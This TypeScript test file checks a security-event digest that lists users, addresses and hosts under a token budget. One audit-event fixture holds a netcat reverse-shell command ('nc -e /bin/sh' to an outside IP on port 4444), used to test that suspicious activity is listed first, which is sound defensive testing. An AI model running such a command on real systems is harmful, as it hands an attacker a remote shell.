import { expect, test } from "vitest";
import type { EventRecord } from "../../../src/event-fields/event-record.ts";
import { createEventFold } from "../../../src/digest/fold.ts";
import { renderActors } from "../../../src/digest/render/actor-lines.ts";
import { createLineCost } from "../../../src/digest/render/budget.ts";
import { createClean } from "../../../src/text/clean.ts";

function linesOf(events: readonly EventRecord[], tokens: number): readonly string[] {
  const fold = createEventFold();
  for (const event of events) fold.add(event, 100);
  return renderActors(fold.end(), {
    tokens,
    clean: createClean({ redact: true }),
    costOf: createLineCost(),
    shown: "main",
    atMost: 16,
  });
}

const connection = (from: string, to: string, index: number) => ({
  _id: `event-${String(index)}`,
  event_type: "network",
  timestamp: 1.7e12 + index,
  user: "app",
  hostname: `web-${String(index % 3)}`,
  src_ip: from,
  dst_ip: to,
});

const events = [
  ...Array.from({ length: 40 }, (_, index) => connection("0.0.0.0", "127.0.0.1", index)),
  ...Array.from({ length: 9 }, (_, index) => connection("10.0.0.7", "fe80::1", 40 + index)),
  connection("203.0.113.9", "198.51.100.4", 50),
];

test("addresses that are somewhere are told before those that every machine has", () => {
  expect(linesOf(events, 400)).toEqual([
    "users: app",
    "from: 10.0.0.7 internal 9; 203.0.113.9 1; 0.0.0.0 any 40",
    "to: 198.51.100.4 1; 127.0.0.1 loopback 40; fe80::1 link-local 9",
    "hosts: web-0 17; web-2 17; web-1 16",
  ]);
});

test("where room is short, who and on what stay", () => {
  expect(linesOf(events, 16)).toEqual(["users: app", "hosts: web-0 17; 2 more"]);
  expect(linesOf(events, 40).map((line) => line.split(":")[0])).toEqual(["users", "from", "hosts"]);
});

test("what suspicious events are about comes first, with how often it comes in all", () => {
  const netcat = {
    event_type: "audit",
    syscall: "execve",
    exe: "/usr/bin/nc",
    arguments: "nc -e /bin/sh 203.0.113.9 4444",
    user: "www-data",
    hostname: "web-1",
    _id: "event-99",
    timestamp: 1.7e12,
  };
  expect(linesOf([...events, netcat], 400)).toEqual(
    expect.arrayContaining(["users: www-data 1; app 50", "hosts: web-1 17; web-0 17; web-2 17"]),
  );
});

const login = (user: string, src_ip: string, index: number) => ({
  _id: `login-${String(index)}`,
  event_type: "login",
  timestamp: 1.7e12 + index,
  user,
  src_ip,
  success: true,
});
const usersOf = (logins: readonly EventRecord[]) =>
  linesOf(logins, 400).find((line) => line.startsWith("users:"));

test("users are told with where they came from, where that is not all the same", () => {
  const both = [
    login("ann", "10.0.0.7", 1),
    login("ann", "10.0.0.8", 2),
    login("bob", "10.0.0.8", 3),
  ];
  expect(usersOf(both)).toBe("users: ann 2 from 10.0.0.7 and 1 more; bob 1 from 10.0.0.8");
  expect(usersOf([login("ann", "10.0.0.7", 1), login("bob", "10.0.0.7", 2)])).toBe(
    "users: ann 1; bob 1",
  );
});

test("an account is its whole name: a namesake's address is not told of it", () => {
  const logins = [
    login("CORP\\ann", "10.0.0.7", 1),
    login("CORP\\ann", "10.0.0.7", 2),
    login("WEB2\\ann", "203.0.113.9", 3),
    { ...connection("", "", 4), user: "ann" },
  ];
  expect(usersOf(logins)).toBe(
    "users: CORP\\ann 2 from 10.0.0.7; WEB2\\ann 1 from 203.0.113.9; ann 1",
  );
});
